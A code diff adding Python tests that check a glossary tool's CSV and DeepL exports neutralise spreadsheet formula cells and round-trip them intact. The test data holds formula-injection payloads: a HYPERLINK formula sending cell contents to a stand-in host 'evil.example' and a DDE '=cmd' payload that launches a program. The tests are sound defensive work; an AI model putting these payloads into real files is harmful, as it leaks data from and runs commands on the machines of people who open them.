@@ -247,6 +247,75 @@ def test_deepl_import_refuses_a_repeated_source() -> None:
     assert str(info.value).startswith("d.csv:2: ")
 
 
+# -- CSV injection ----------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
+
+
+def hostile() -> list[Concept]:
+    """Concepts whose fields a spreadsheet would run as formulas, and values that only look so."""
+    return [
+        Concept(
+            id="formula",
+            term=FORMULA,
+            abbreviations=("@SUM(1+1)",),
+            variants=("+1", "-23", "'=quoted"),
+            deprecated=("=1+1",),
+            note="-2+3 is a note",
+            targets=(("de", ("=cmd|' /C calc'!A0", "-23")), ("uk", ("+380",))),
+        ),
+        Concept(id="plain", term="'quoted' term", targets=(("de", ("'s Gravenhage",)),)),
+    ]
+
+
+def _cells(text: str) -> list[str]:
+    import csv
+    import io
+
+    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+
+
+def test_csv_export_neutralises_formula_cells() -> None:
+    text = to_csv(hostile(), ["de", "uk"])
+    cells = _cells(text)
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'" + FORMULA in cells and "'@SUM(1+1)" in cells and "'-2+3 is a note" in cells
+    assert "'+380" in cells and "'+1 | -23 | '=quoted" in cells  # only a cell's start counts
+    assert "'quoted' term" in cells  # a quote before a harmless character is left alone
+
+
+def test_deepl_export_neutralises_formula_cells() -> None:
+    text = to_deepl_csv(hostile(), "de")
+    assert text == (
+        f"\"'{FORMULA.replace(chr(34), chr(34) * 2)}\",'=cmd|' /C calc'!A0\n"
+        "'@SUM(1+1),'=cmd|' /C calc'!A0\n"
+        "'+1,'=cmd|' /C calc'!A0\n"
+        "'-23,'=cmd|' /C calc'!A0\n"
+        "''=quoted,'=cmd|' /C calc'!A0\n"
+        "'quoted' term,'s Gravenhage\n"
+    )
+    assert not [c for c in _cells(text) if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_neutralised_cells_round_trip_exactly() -> None:
+    concepts = hostile()
+    back = from_csv(to_csv(concepts, ["de", "uk"]), "out.csv")
+    assert comparable(back) == comparable(concepts)
+    deepl = to_deepl_csv(concepts, "uk")
+    assert [c.term for c in from_csv(deepl, "d.csv", deepl_target="uk")] == [FORMULA]
+    assert to_deepl_csv(from_csv(deepl, "d.csv", deepl_target="uk"), "uk") == deepl
+
+
+def test_csv_import_takes_off_only_a_neutralising_quote() -> None:
+    text = "id,term,variant,de\n,'-23,'+1 | 'x,'=Summe\n"
+    (concept,) = from_csv(text, "in.csv")
+    assert (concept.term, concept.variants, concept.targets) == (
+        "-23",
+        ("+1", "'x"),
+        (("de", ("=Summe",)),),
+    )
+
+
 # -- broken and hostile input ---------------------------------------------------------
 
 
